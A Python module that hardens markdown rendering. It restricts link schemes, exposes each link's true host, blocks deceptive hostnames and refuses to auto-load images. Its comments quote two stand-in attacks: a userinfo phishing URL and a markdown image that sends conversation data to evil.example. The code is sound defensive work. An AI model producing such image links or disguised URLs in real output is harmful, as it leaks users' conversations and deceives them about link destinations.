"""Where a link may lead: http, https and mailto, in a new tab, with its real host as title. Nothing is ever loaded by itself."""

import re
from typing import Any
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.rules_inline import StateInline
from markdown_it.token import Token

REL = "noopener noreferrer nofollow ugc"
Env = dict[str, Any]  # what one parse knows: references, final, last, in_link

# Stops at quotes, brackets of markup and the punctuation of CJK text, which often follows an address without a space.
BARE = re.compile(r"//[^\s<>\"'`\\^{|}*\u3000-\u303f\uff00-\uffef]{1,2048}")
SCHEME = re.compile(r"(?:^|[^A-Za-z0-9+.-])(https?)$", re.IGNORECASE)
# What no host has: browsers refuse some of it and drop the rest, and what is shown would not be where one gets.
NO_HOST = re.compile(
    "[\x00-\x20\x7f-\xa0%\"'<>\\\\^`{|}\u00ad\u200b-\u200f\u2028-\u202e\u2044\u2060-\u206f\u2215\ufeff\U000e0000-\U000e007f]"
)
TRAILING = "?!.,:;_~"


def place(url: str) -> str | None:
    """What a reader should know before a click: the host, or the address of a mail. None if this is no link to show."""
    try:
        parts = urlsplit(url)
        if parts.scheme == "mailto":
            return parts.path or None
        if parts.scheme in ("http", "https") and "@" not in parts.netloc:  # https://bank.example@evil.example
            return None if NO_HOST.search(host := parts.hostname or "") else host or None
    except ValueError:
        pass
    return None


def install(md: MarkdownIt) -> None:
    md.validateLink = lambda url: place(url) is not None  # type: ignore[method-assign]
    md.inline.ruler.before("linkify", "bare_url", _bare_url)


def _bare_url(state: StateInline, silent: bool) -> bool:
    """`https://…` in running text, found at its colon; the scheme is taken back from the pending text."""
    if state.src[state.pos] != ":" or state.linkLevel > 0:
        return False
    scheme, rest = SCHEME.search(state.pending[-9:]), BARE.match(state.src, state.pos + 1)
    if scheme is None or rest is None:
        return False
    text = scheme[1] + ":" + _trimmed(rest[0])
    if place(text) is None or place(href := state.md.normalizeLink(text)) is None:
        return False
    if not silent:
        state.pending = state.pending[: -len(scheme[1])]
        state.push("link_open", "a", 1).attrs = {"href": href}
        state.push("text", "", 0).content = state.md.normalizeLinkText(text)
        state.push("link_close", "a", -1)
    state.pos += len(text) - len(scheme[1])
    return True


def _trimmed(url: str) -> str:
    """Without the punctuation of the sentence around it (GFM 6.9): `(see https://a.example/b_(c)).`"""
    while url:
        if url[-1] in TRAILING or (url[-1] == ")" and url.count(")") > url.count("(")) or (url[-1] == "]" and "[" not in url):
            url = url[:-1]
        else:
            break
    return url


def _anchor(href: str, title: str, kind: str = "") -> str:
    return f'<a{kind} href="{escapeHtml(href)}" target="_blank" rel="{REL}" title="{escapeHtml(title)}">'


def _open(token: Token, env: Env) -> str:
    env["in_link"] = True
    href = str(token.attrGet("href"))
    return _anchor(href, place(href) or "")


def _close(token: Token, env: Env) -> str:
    env["in_link"] = False
    return "</a>"


def _image(token: Token, env: Env) -> str:
    """An image is never loaded: its address may carry the conversation away (`![](https://evil.example/?q=...)`)."""
    src = str(token.attrGet("src"))
    parts = urlsplit(src)
    name = escapeHtml(f"image: {parts.hostname or ''}{parts.path}")
    if parts.scheme == "mailto" or env.get("in_link"):
        return f'<span class="hr-image">{name}</span>'
    return _anchor(src, token.content or place(src) or "", ' class="hr-image"') + f"{name}</a>"


RULES = {"link_open": _open, "link_close": _close, "image": _image}
